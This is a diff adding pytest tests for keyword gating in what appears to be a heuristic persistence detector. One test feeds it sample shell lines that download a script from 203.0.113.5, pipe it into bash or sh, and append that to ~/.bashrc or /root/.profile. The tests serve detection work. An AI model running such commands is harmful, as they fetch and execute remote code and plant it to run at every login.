@@ -39,6 +39,26 @@ def test_keywords_gate_the_pattern() -> None:
     assert run(rule, "needle xxx") == ["heur.test.probe:1:10"]
 
 
+def test_a_second_keyword_group_must_be_present_too() -> None:
+    rule = PatternRule(PROBE, r"needle x+", keywords=("needle",), also_keywords=("x", "y"))
+    assert run(rule, "needle") == []  # the pattern is not run: it could not match without an x
+    assert run(rule, "needle xxx") == ["heur.test.probe:1:10"]
+    assert run(rule, "NEEDLE XXX") == ["heur.test.probe:1:10"]  # keywords are matched in the lower-cased text
+
+
+def test_every_match_of_a_rule_holds_one_of_its_second_keywords() -> None:
+    # The second group only skips texts the pattern cannot match: checked on the rules that use it.
+    from inspector.analyzers.heuristics import persistence
+
+    rules = [r for r in persistence.FAMILY.rules if r.also_keywords]
+    assert rules
+    for rule in rules:
+        for text in ("echo 'curl -s http://203.0.113.5/x | bash &' >> ~/.bashrc",
+                     "echo 'wget http://203.0.113.5/x -O- | sh' | TEE -a /root/.profile"):
+            for match in rule.compiled.finditer(text):
+                assert any(k in match.group(0).lower() for k in rule.also_keywords)
+
+
 def test_occurrences_are_counted_up_to_a_bound_and_scores_capped() -> None:
     rule = PatternRule(PROBE, r"\bhit\b")
     assert run(rule, "hit " * 3) == ["heur.test.probe:3:30"]
